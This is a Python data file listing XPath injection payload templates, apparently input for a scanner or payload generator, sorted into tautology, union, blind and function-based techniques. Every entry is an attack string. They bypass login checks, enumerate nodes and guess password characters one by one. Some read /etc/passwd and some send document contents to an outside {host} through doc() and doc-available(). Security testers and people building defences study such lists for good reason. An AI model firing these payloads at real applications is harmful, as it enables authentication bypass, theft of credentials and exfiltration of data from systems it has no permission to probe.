"""XPath injection: the value lands inside an expression such as //user[name='VALUE' and password='...'].
(technique, template); {node} an element name, {c} a letter being guessed."""

XPATH = [
    ("tautology", "' or '1'='1"), ("tautology", "' or ''='"), ("tautology", "x' or 1=1 or 'x'='y"), ("tautology", "\" or \"a\"=\"a"),
    ("tautology", "{user}' or '1'='1"), ("tautology", "' or true() or '"), ("tautology", "{user}' or name()='{user}' or 'x'='y"),
    ("tautology", "') or ('a'='a"), ("tautology", "' or position()={n} or '"), ("tautology", "{user}\" or \"1\"=\"1"),
    ("tautology", "' or count(/*)=1 or '"), ("tautology", "']|//*|//*['"), ("tautology", "{w}' or '{w}'='{w}"),
    ("union", "'] | //{node}/*[contains(.,'"), ("union", "') or 1=1] | //* | a[('"), ("union", "'] | //*["),
    ("union", "{w}'] | /*/* | //{node}['"), ("union", "'] | //{node}/password | a['"), ("union", "') | //{node}[('1'='1"),
    ("union", "x'] | //text()[contains(.,'"), ("union", "'] | //{node}[position()={n}]/* | a['"), ("union", "\"] | //{node}[\""),
    ("blind", "' and count(/child::node())={n} and '1'='1"), ("blind", "' and string-length(name(/*[1]))={n} and ''='"),
    ("blind", "' and substring(name(/*[1]),{n},1)='{c}' and '1'='1"), ("blind", "' and starts-with(//{node}[1]/password,'{c}') and ''='"),
    ("blind", "' and count(//{node})>{n} or ''='"), ("blind", "{user}' and string-length(//{node}[position()=1]/password)>{n} and 'a'='a"),
    ("blind", "' and name(/*)='{node}' and '1'='1"), ("blind", "' and substring(//{node}[1]/*[2],1,1)='{c}' or 'a'='b"),
    ("blind", "count(/child::node())"), ("blind", "string-length(name(/*[1]))"), ("blind", "' and count(/*[1]/*)={n} and 'x'='x"),
    ("blind", "{n} and string-length(name(/*))>{n2}"),
    ("functions", "' or contains(name(.),'{w}') or '"), ("functions", "doc('http://{host}/{w}')"),
    ("functions", "' and doc-available(concat('http://{host}/',name(/*)))='"), ("functions", "' or string(//{node}[1]/password) or '"),
    ("functions", "') or contains(text(),'{w}"), ("functions", "' or normalize-space(//{node})='"),
    ("functions", "translate(//{node}[1]/password,'abc','ABC')"), ("functions", "' or local-name(/*)='{node}' or '"),
    ("functions", "' and unparsed-text('file:///etc/passwd')='"), ("functions", "concat(name(/*),'|',name(/*/*[1]))"),
]
XPATH_NODES = "user users account credential employee customer member login item entry node admin record person".split()
